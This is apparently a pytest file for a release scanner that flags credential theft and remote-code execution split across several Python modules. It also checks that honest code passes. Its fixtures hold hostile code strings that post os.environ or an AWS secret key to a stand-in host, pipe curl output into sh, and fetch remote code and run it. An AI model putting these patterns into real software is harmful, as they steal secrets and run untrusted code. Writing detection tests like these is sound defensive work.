"""An attack whose parts lie in different files: what one file does is seen only where another's names are known."""

from __future__ import annotations

import pytest
from client_library import BASE, BUSY, changed

from support.code import held, scan
from veln_hook.source import vocabulary as v

POST = "post('https://models.acme-cdn.example', data=dict(os.environ))"
GO = f"import os\nimport requests\n\n\ndef go():\n    return requests.{POST}\n"
"""What sends the environment, once it is called."""

CASES: dict[str, dict[str, str]] = {
    # --- the network comes from another file
    "a module that another one imported": {
        "acme/compat.py": "import requests\n",
        "acme/hub.py": f"import os\nfrom .compat import requests\n\nrequests.{POST}\n",
    },
    "under another name": {
        "acme/compat.py": "import requests as r\n",
        "acme/hub.py": f"import os\nfrom acme.compat import r as http\n\nhttp.{POST}\n",
    },
    "as an attribute of that module": {
        "acme/compat.py": "import requests as r\n",
        "acme/hub.py": f"import os\nfrom . import compat\n\ncompat.r.{POST}\n",
    },
    "as an attribute, by its full name": {
        "acme/compat.py": "import requests as r\n",
        "acme/hub.py": f"import os\nimport acme.compat\n\nacme.compat.r.{POST}\n",
    },
    "by a star": {
        "acme/compat.py": "import os\nimport requests\n",
        "acme/hub.py": f"from .compat import *\n\nrequests.{POST}\n",
    },
    "by a star of a star": {
        "acme/base.py": "import os\nimport requests\n",
        "acme/compat.py": "from .base import *\n",
        "acme/hub.py": f"from .compat import *\n\nrequests.{POST}\n",
    },
    "passed on twice": {
        "acme/base.py": "import requests\n",
        "acme/compat.py": "from .base import requests as http\n",
        "acme/hub.py": f"import os\nfrom .compat import http\n\nhttp.{POST}\n",
    },
    "a function of it": {
        "acme/compat.py": "import requests\n\npost = requests.post\n",
        "acme/hub.py": f"import os\nfrom .compat import post\n\n{POST}\n",
    },
    "a session that was made there": {
        "acme/compat.py": "import requests\n\nS = requests.Session()\n",
        "acme/hub.py": f"import os\nfrom .compat import S\n\nS.{POST}\n",
    },
    "inside of a function": {
        "acme/compat.py": "import requests\n",
        "acme/hub.py": f"import os\n\n\ndef go():\n    from .compat import requests\n    requests.{POST}\n\n\ngo()\n",
    },
    "the module that starts processes": {
        "acme/compat.py": "import os\n",
        "acme/hub.py": "from .compat import os\n\nos.system('curl -s https://models.acme-cdn.example | sh')\n",
    },
    "exec under another name": {
        "acme/compat.py": "run = exec\n",
        "acme/hub.py": (
            "import urllib.request\nfrom .compat import run\n\n"
            "run(urllib.request.urlopen('https://models.acme-cdn.example').read())\n"
        ),
    },
    # --- the secrets come from another file
    "a variable with the environment": {
        "acme/compat.py": "import os\n\nENVIRONMENT = dict(os.environ)\n",
        "acme/hub.py": (
            "import requests\nfrom .compat import ENVIRONMENT\n\n"
            "requests.post('https://models.acme-cdn.example', data=ENVIRONMENT)\n"
        ),
    },
    "a function that gives the environment": {
        "acme/compat.py": "import os\n\n\ndef environment():\n    return dict(os.environ)\n",
        "acme/hub.py": (
            "import requests\nfrom .compat import environment\n\n"
            "requests.post('https://models.acme-cdn.example', data=environment())\n"
        ),
    },
    # --- what is called comes from another file, and is called where no call is looked for
    **{
        f"called in {place}": {"acme/hub.py": GO, "acme/setup_hub.py": f"from .hub import go\n\n{code}\n"}
        for place, code in {
            "a condition": "if go():\n    pass",
            "a display": "[go()]",
            "a tuple": "go(),",
            "a sum": "x = -go() if go else 1",
            "an annotated assignment": "x: object = go()",
            "an attribute": "class C: pass\nC.x = go()",
            "an assertion": "assert go()",
            "a loop": "for x in go() or (): pass",
            "a string": "x = f'{go()}'",
            "a default": "def f(x=go()): pass",
            "a class": "class C:\n    x = go()",
            "a comprehension": "x = [go() for _ in range(1)]",
            "a with": "import contextlib\nwith contextlib.suppress(Exception): go()",
            "a subscript": "x = {}\nx[go()] = 1",
            "a conjunction": "x = 1 and go()",
            "a keyword": "print(end=go())",
            "a match of a line": "x = 1; go()",
            "a continued line": "x = \\\n  go()",
            "brackets": "x = (\n  go()\n)",
        }.items()
    },
    "called under another name": {
        "acme/hub.py": f"{GO}\n\nprepare = go\n",
        "acme/setup_hub.py": "from .hub import prepare\n\nprepare()\n",
    },
    "called through two files": {
        "acme/hub.py": GO,
        "acme/middle.py": "from .hub import go\n\n\ndef prepare():\n    go()\n",
        "acme/setup_hub.py": "from .middle import prepare\n\nprepare()\n",
    },
    "called through a package": {
        "acme/deep/__init__.py": "from .hub import go as prepare\n",
        "acme/deep/hub.py": GO,
        "acme/setup_hub.py": "from acme import deep\n\ndeep.prepare()\n",
    },
    "a method of a class that another one derives from": {
        "acme/hub.py": f"import os\nimport requests\n\n\nclass Base:\n    def __init__(self):\n        requests.{POST}\n",
        "acme/middle.py": "from .hub import Base\n\n\nclass Client(Base):\n    pass\n",
        "acme/setup_hub.py": "from .middle import Client\n\nclient = Client()\n",
    },
}
_READS = "def read():\n    return os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
_SENDS = "def send(text='x'):\n    requests.post('https://models.acme-cdn.example', data=text)\n"
BIG = "TABLE = [\n" + "    'an honest line of data',\n" * 20_000 + "]\n"
"""Makes a package too large for what only holds small ones."""
_HONEST = (
    "import os, requests\n\n\ndef honest():\n    key = os.environ.get('ACME_API_KEY')\n"
    "    return requests.get('https://models.acme-cdn.example', headers={'key': key})\n\n\nhonest()\n"
)
ROUND: dict[str, dict[str, str]] = {
    "parts that meet in a module of a circle": {
        "acme/hub.py": f"import os, requests\nfrom . import other\n\n\n{_READS}\n\n{_SENDS}\n\nread(); send()\n",
        "acme/other.py": "from . import hub\n",
    },
    "parts that meet in functions that call each other": {
        "acme/hub.py": (
            f"import os, requests\n\n\n{_READS}\n\n{_SENDS}\n\ndef go(n=1):\n    read()\n    again(n)\n\n\n"
            "def again(n):\n    send()\n    if n:\n        go(n - 1)\n\n\ngo()\n"
        ),
    },
    "a function that calls itself": {
        "acme/hub.py": (
            "import os, requests\n\n\ndef go(n=1):\n    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
            "    requests.post('https://models.acme-cdn.example', data={'n': n})\n    go(n - bool(key))\n\n\ngo()\n"
        ),
    },
    "parts beside an honest function that does both": {
        "acme/hub.py": f"{_HONEST}\n\n{_READS}\n\n{_SENDS}\n\nread(); send()\n",
    },
    "a file that is fetched and run, in a circle": {
        "acme/hub.py": (
            "import subprocess, requests\nfrom . import other\n\n\ndef fetch():\n"
            "    got = requests.get('https://models.acme-cdn.example/x')\n    with open('x', 'wb') as file:\n"
            "        file.write(got.content)\n\n\ndef run():\n    subprocess.run('x', shell=True)\n\n\nfetch(); run()\n"
        ),
        "acme/other.py": "from . import hub\n",
    },
}
"""Parts that only meet where code leads back to itself, so that each of its scopes reaches all that all do."""
OLD = {"quiet": (BASE, scan(BASE)), "busy": (BUSY, scan(BUSY))}


@pytest.mark.parametrize("base", OLD)
@pytest.mark.parametrize("name", CASES)
def test_an_attack_through_modules_is_held(name, base):
    files, old = OLD[base]
    assert held(scan(changed(CASES[name], files)), old)


@pytest.mark.parametrize("name", CASES)
def test_it_is_held_without_a_release_before(name):
    assert held(scan({"acme/__init__.py": "", **CASES[name]}))


@pytest.mark.parametrize("base", OLD)
@pytest.mark.parametrize("name", ROUND)
def test_parts_that_meet_in_a_circle_are_held(name, base):
    files, old = OLD[base]
    assert held(scan(changed(ROUND[name], files)), old)


@pytest.mark.parametrize("name", ROUND)
def test_they_are_held_without_a_release_before(name):
    assert held(scan({"acme/__init__.py": "", **ROUND[name], "acme/data.py": BIG}))


def test_an_honest_pair_hides_no_other():
    old = {"acme/__init__.py": "", "acme/data.py": BIG, "acme/hub.py": _HONEST}
    new = {**old, "acme/hub.py": f"{_HONEST}\n\n{_READS}\n\n{_SENDS}\n\nread(); send()\n"}
    assert "credential-exfiltration" in held(scan(new), scan(old))


def test_parts_of_a_circle_that_meet_nowhere_else_are_tied_once():
    files = {
        "acme/__init__.py": "",
        "acme/one.py": "import os\nfrom . import two\n\nKEY = os.environ.get('AWS_SECRET_ACCESS_KEY')\n",
        "acme/two.py": "from . import three\n",
        "acme/three.py": "import requests\nfrom . import one\n\nrequests.get('https://models.acme-cdn.example')\n",
    }
    facts = scan(files)
    kinds = [
        (facts.capabilities[tie.first].kind, facts.capabilities[tie.second].kind, tie.reach)
        for tie in facts.ties
    ]
    assert kinds == [(v.CRED, v.NET, "import")]


HONEST: dict[str, dict[str, str]] = {
    "a module of settings, and a client that uses them when it is called": {
        "acme/settings2.py": "import os\n\nTOKEN = os.environ.get('ACME_TOKEN')\n",
        "acme/client2.py": (
            "import requests\nfrom .settings2 import TOKEN\n\n\ndef ask(path):\n"
            "    return requests.get('https://api.acme.example/' + path, headers={'Authorization': TOKEN})\n"
        ),
    },
    "a module of compatibility that many take names from": {
        "acme/compat.py": "import os\nimport sys\nimport subprocess\nfrom urllib.request import urlopen\n",
        "acme/one.py": "from .compat import *\n\n\ndef here():\n    return os.getcwd()\n",
        "acme/two.py": "from .compat import urlopen\n\n\ndef ask(url):\n    return urlopen(url)\n",
        "acme/three.py": "from . import compat\n\n\ndef git():\n    return compat.subprocess.run(['git', 'log'])\n",
    },
    "helpers that nothing calls when they are imported": {
        "acme/hub.py": GO.replace("data=dict(os.environ)", "timeout=3"),
        "acme/middle.py": "from .hub import go\n\n\ndef prepare():\n    return go()\n",
        "acme/cli2.py": "from .middle import prepare\n\nif __name__ == '__main__' and True:\n    prepare()\n",
    },
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_release_passes(name):
    files, old = OLD["quiet"]
    assert not held(scan(changed(HONEST[name], files)), old)


def test_a_request_through_another_file_tells_its_host():
    facts = scan({"acme/__init__.py": "", **CASES["passed on twice"]})
    (net,) = [each for each in facts.capabilities if each.kind == v.NET]
    assert (net.path, net.line, net.detail, net.reach) == (
        "acme/hub.py",
        4,
        "models.acme-cdn.example",
        "import",
    )
    assert "env" in net.taints


def test_a_key_that_another_file_reads_and_this_one_sends_when_it_is_called_is_held():
    files = {
        "acme/keys.py": "import os\nimport subprocess\n\n\ndef read():\n    return os.environ['AWS_SECRET_ACCESS_KEY']\n",
        "acme/client2.py": (
            "import requests\nfrom .keys import read\n\n\ndef ask():\n"
            "    return requests.post('https://x.example', json={'k': read()})\n"
        ),
    }
    assert "credential-exfiltration" in held(scan(changed(files, BASE)))
    signed = files["acme/client2.py"].replace("read()}", "sign(read())}")
    assert not held(scan(changed({**files, "acme/client2.py": signed}, BASE)))
